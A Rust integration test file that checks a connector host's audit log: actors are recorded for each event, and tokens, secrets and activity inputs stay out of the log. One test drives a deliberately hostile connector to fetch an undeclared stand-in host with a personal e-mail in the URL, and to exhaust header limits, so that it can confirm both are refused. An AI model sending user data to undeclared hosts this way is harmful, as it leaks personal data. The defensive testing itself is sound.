//! The audit trail (issue 18, item 3) against the real things: `serve` with
//! OpenBao and the sandbox, `run` with the hostile connector, several
//! processes appending to one file, a rotation, and `audit verify` on files
//! cut, edited and reordered by hand. No line may hold a canary, the API
//! token or an activity's input.

use std::path::Path;

use connector_tests::serve::{Serve, API_TOKEN};
use connector_tests::*;
use serde_json::{json, Value};
use sha2::{Digest, Sha256};

use crate::page::{bao_with_app_secret, config};
use crate::serve::{connect, register_app};

mod chain;
mod oauth;
mod worker;

/// An e-mail address sent as an activity's input: personal data, never audited.
const INPUT_CANARY: &str = "audit-input-canary-41c7@example.com";

/// Every line of an audit file, parsed (each must be one JSON object).
pub(crate) fn lines(path: &Path) -> Vec<Value> {
    let text = std::fs::read_to_string(path).expect("audit file");
    assert_no_canary(&text);
    assert!(!text.contains(API_TOKEN), "the API token is in the trail");
    assert!(!text.contains(INPUT_CANARY), "an input is in the trail");
    text.lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l}")))
        .collect()
}

/// The first line of `kind` whose fields contain `fields`.
pub(crate) fn event<'a>(lines: &'a [Value], kind: &str, fields: &Value) -> &'a Value {
    let matches = |line: &&Value| {
        line["kind"] == kind
            && fields
                .as_object()
                .unwrap()
                .iter()
                .all(|(k, v)| &line["fields"][k] == v)
    };
    lines.iter().find(matches).unwrap_or_else(|| {
        let kinds: Vec<String> = lines
            .iter()
            .map(|l| format!("{} {}", l["kind"], l["fields"]))
            .collect();
        panic!("no {kind} with {fields} in:\n{}", kinds.join("\n"))
    })
}

pub(crate) fn verify(files: &[&Path], extra: &[&str]) -> Run {
    let mut args = vec!["audit", "verify"];
    args.extend_from_slice(extra);
    let names: Vec<String> = files.iter().map(|f| f.display().to_string()).collect();
    args.extend(names.iter().map(String::as_str));
    host(&args)
}

/// The API token's id in the trail: the first 8 hex digits of its SHA-256.
fn token_id() -> String {
    hex(&Sha256::digest(API_TOKEN.as_bytes())[..4])
}

pub(crate) fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

/// `run` with the trail going to `audit`.
fn run_audited(connection: &ConnectionFile, activity: &str, input: &Value, audit: &Path) -> Run {
    let path = connection.path.display().to_string();
    host_env(
        &["run", &path, activity, "--input", &input.to_string()],
        &[("CONNECTOR_HOST_AUDIT_LOG", &audit.display().to_string())],
    )
}

#[test]
fn the_seed_flow_leaves_every_event_with_its_actor_and_no_secret() {
    let dir = tempfile::tempdir().unwrap();
    let audit = dir.path().join("audit.log");
    seed_flow(&audit);
    hostile_runs(&audit);
    let mode =
        std::os::unix::fs::PermissionsExt::mode(&std::fs::metadata(&audit).unwrap().permissions());
    assert_eq!(mode & 0o777, 0o600, "the trail is the owner's alone");
    let lines = lines(&audit);
    serve_events(&lines);
    cli_events(&lines);
    let stopped = lines.iter().filter(|l| l["kind"] == "audit.stopped");
    assert_eq!(stopped.count(), 3, "three clean exits");
    let intact = verify(&[&audit], &[]);
    assert_eq!(intact.code, 0, "{intact:#?}");
    assert!(
        intact.stdout.contains("intact") && intact.stdout.contains("3 chain(s)"),
        "{}",
        intact.stdout
    );
}

/// serve with OpenBao holding the app's secret: create (and Check a typo),
/// connect through the sandbox, call, call from the page after the token
/// ran out, change, delete.
fn seed_flow(audit: &Path) {
    // Two-second access tokens, so a later call refreshes.
    let sandbox = Sandbox::start_with(&["--access-token-lifetime", "2"]);
    let bao = bao_with_app_secret();
    let trail = audit.display().to_string();
    let mut serve = Serve::start(
        &config(&bao, Some(&sandbox)),
        &[
            ("VAULT_TOKEN", &bao.root_token),
            ("CONNECTOR_HOST_AUDIT_LOG", &trail),
        ],
    );
    register_app(&sandbox, &serve, "app-audit");
    let asset = json!({"asset": {"store": "vault", "name": "cc-app", "key": "client_secret"}});
    let draft = json!({"name": "seed", "connector": "constant-contact",
        "fields": {"client_id": {"value": "app-audit"}, "client_secret": asset}});
    assert_eq!(
        serve.call("POST", "/api/connections", Some(&draft)).status,
        201
    );
    let mut typo = draft.clone();
    typo["fields"]["client_secret"]["asset"]["key"] = json!("client_secrte");
    let checked = serve.call("POST", "/api/connections/check", Some(&typo));
    assert_eq!(checked.json["ok"], false, "{checked:#?}");
    connect(&serve, &sandbox, "seed");
    let call = |input: &Value| {
        serve.call(
            "POST",
            "/api/connections/seed/activities/create-contact",
            Some(input),
        )
    };
    let contact = json!({"email_address": {"address": INPUT_CANARY, "permission_to_send": "implicit"}, "create_source": "account"});
    let created = call(&contact);
    assert_eq!(created.status, 200, "{created:#?}");
    std::thread::sleep(std::time::Duration::from_millis(1700));
    let page = serve.page_session();
    let (status, _) = serve.page_call(
        "POST",
        "/api/connections/seed/activities/list-user-privileges",
        &page.cookie,
        Some(&page.secret),
        Some(json!({})),
    );
    assert_eq!(
        status, 200,
        "a page call after the token ran out (refreshed)"
    );
    let mut changed = draft.clone();
    changed["fields"]["client_id"] = json!({"keep": true});
    changed["fields"]["client_secret"] = json!({"keep": true});
    changed.as_object_mut().unwrap().remove("name");
    changed["scopes"] = json!(["account_read", "offline_access"]);
    assert_eq!(
        serve
            .call("PUT", "/api/connections/seed", Some(&changed))
            .status,
        200
    );
    assert_eq!(
        serve.call("DELETE", "/api/connections/seed", None).status,
        204
    );

    let (code, stderr) = serve.stop();
    assert_eq!(code, 0, "{stderr}");
}

/// The hostile connector from the CLI, into the same file: a refused egress and a limit.
fn hostile_runs(audit: &Path) {
    let hostile = ConnectionFile::new(&component("hostile_connector"), "");
    let refused =
        json!({"url": format!("https://undeclared.example/u?email={INPUT_CANARY}"), "headers": []});
    assert_ne!(run_audited(&hostile, "fetch", &refused, audit).code, 0);
    let hoard = json!({"count": 8000, "value_kib": 60});
    assert_eq!(
        run_audited(&hostile, "hoard-headers", &hoard, audit).code,
        5
    );
}

/// What serve recorded, with the API token's or the page's actor.
fn serve_events(lines: &[Value]) {
    let api = json!({"tenant": "default", "kind": "api_token", "id": token_id()});
    let actor = |line: &Value| line["actor"].clone();
    let serve_process = &event(lines, "audit.started", &json!({}))["process"];
    assert_eq!(serve_process["front_end"], "serve");
    assert!(serve_process["pid"].as_u64().is_some() && serve_process["host"].is_string());

    let cc = std::fs::read(component("cc_connector")).unwrap();
    let loaded = event(
        lines,
        "connector.loaded",
        &json!({"connector": "constant-contact"}),
    );
    assert_eq!(loaded["fields"]["sha256"], hex(&Sha256::digest(&cc)));
    assert_eq!(
        actor(event(
            lines,
            "connection.created",
            &json!({"connection": "seed", "connector": "constant-contact"})
        )),
        api
    );
    assert_eq!(
        actor(event(
            lines,
            "connection.connect",
            &json!({"connection": "seed", "outcome": "started"})
        )),
        api
    );
    assert_eq!(
        actor(event(
            lines,
            "connection.connect",
            &json!({"connection": "seed", "outcome": "connected"})
        )),
        api
    );
    let issued = event(
        lines,
        "oauth.token.issued",
        &json!({"connection": "seed", "how": "page"}),
    );
    assert!(issued["fields"]["scopes"]
        .as_array()
        .is_some_and(|s| !s.is_empty()));
    let secret = event(
        lines,
        "secret.resolved",
        &json!({"store": "vault", "asset": "cc-app", "field": "client_secret", "key": "client_secret"}),
    );
    assert!(
        secret["fields"]["path"]
            .as_str()
            .unwrap()
            .contains("connectors/cc-app"),
        "{secret}"
    );
    assert_eq!(
        secret["fields"]["kv_version"],
        Value::Null,
        "the latest version"
    );
    let failed = event(
        lines,
        "secret.failed",
        &json!({"asset": "cc-app", "key": "client_secrte"}),
    );
    assert_eq!(actor(failed), api);
    let created = event(
        lines,
        "activity.run",
        &json!({"connection": "seed", "activity": "create-contact", "result": "ok", "connector": "constant-contact"}),
    );
    assert_eq!(actor(created), api);
    assert!(created["fields"]["duration_ms"].as_f64().is_some());
    assert!(created["fields"]["call"]
        .as_str()
        .is_some_and(|c| c.len() == 16));
    let paged = event(
        lines,
        "activity.run",
        &json!({"activity": "list-user-privileges", "result": "ok"}),
    );
    assert_eq!(
        actor(paged),
        json!({"tenant": "default", "kind": "page", "token": token_id()})
    );
    event(
        lines,
        "oauth.token.refreshed",
        &json!({"connection": "seed"}),
    );
    assert_eq!(
        actor(event(
            lines,
            "connection.changed",
            &json!({"connection": "seed"})
        )),
        api
    );
    assert_eq!(
        actor(event(
            lines,
            "connection.deleted",
            &json!({"connection": "seed"})
        )),
        api
    );
}

/// What the CLI's runs recorded: the refused egress and the limit, as the CLI user.
fn cli_events(lines: &[Value]) {
    let egress = event(
        lines,
        "egress.refused",
        &json!({"origin": "https://undeclared.example", "reason": "undeclared_origin"}),
    );
    assert_eq!(
        egress["actor"]["kind"], "cli",
        "the CLI's actor reaches the egress hook"
    );
    assert_eq!(egress["process"]["front_end"], "run");
    let fetch = event(
        lines,
        "activity.run",
        &json!({"activity": "fetch", "call": egress["fields"]["call"]}),
    );
    assert_eq!(fetch["fields"]["connector"], "hostile");
    let limit = event(
        lines,
        "limit.hit",
        &json!({"activity": "hoard-headers", "limit": "max_resources"}),
    );
    assert_eq!(limit["actor"]["kind"], "cli");
}

#[test]
fn mcp_tool_calls_are_audited_as_the_client_that_made_them() {
    let dir = tempfile::tempdir().unwrap();
    let audit = dir.path().join("mcp.log");
    let trail = audit.display().to_string();
    let echo = json!({"tool": "echo", "arguments": {"text": INPUT_CANARY, "count": 1, "offset": -2, "ratio": 0.5,
        "enabled": true, "tags": [], "color": "red", "shape": "nothing", "inner": {"name": "n", "numbers": []},
        "pair": ["a", 1], "permissions": ["read"]}});
    let probe = ConnectionFile::new(&component("probe_connector"), "");
    let (host_bin, path) = (
        bin("connector-host").display().to_string(),
        probe.path.display().to_string(),
    );
    let stdio = ["stdio", &host_bin, "mcp", &path, "--audit-log", &trail];
    let plan = json!({"mode": "legacy", "calls": [echo]});
    assert_eq!(
        crate::mcp::python(&plan, &stdio)["calls"][0]["is_error"],
        false
    );
    let mut serve = Serve::start("", &[("CONNECTOR_HOST_AUDIT_LOG", &trail)]);
    let p1 = json!({"name": "p1", "connector": "probe"});
    assert_eq!(
        serve.call("POST", "/api/connections", Some(&p1)).status,
        201
    );
    let url = format!("{}/mcp", serve.url);
    let plan = json!({"mode": "auto", "calls": [echo]});
    let report = crate::mcp::python(&plan, &["http", &url, API_TOKEN]);
    assert_eq!(report["calls"][0]["is_error"], false, "{report}");
    serve.stop();
    let lines = lines(&audit);
    let runs: Vec<&Value> = lines
        .iter()
        .filter(|l| l["kind"] == "activity.run")
        .collect();
    assert_eq!(runs.len(), 2, "{runs:?}");
    let (over_stdio, over_http) = (&runs[0]["actor"], &runs[1]["actor"]);
    assert_eq!(over_stdio["kind"], "mcp_client", "{over_stdio}");
    assert!(
        over_stdio["name"]
            .as_str()
            .is_some_and(|n| !n.is_empty() && n != "unnamed"),
        "{over_stdio}"
    );
    assert_eq!(over_stdio.get("token"), None);
    assert_eq!(over_http["kind"], "mcp_client", "{over_http}");
    assert_eq!(
        over_http["token"],
        token_id(),
        "the API token it came with, by id"
    );
    assert_eq!(verify(&[&audit], &[]).code, 0);
}
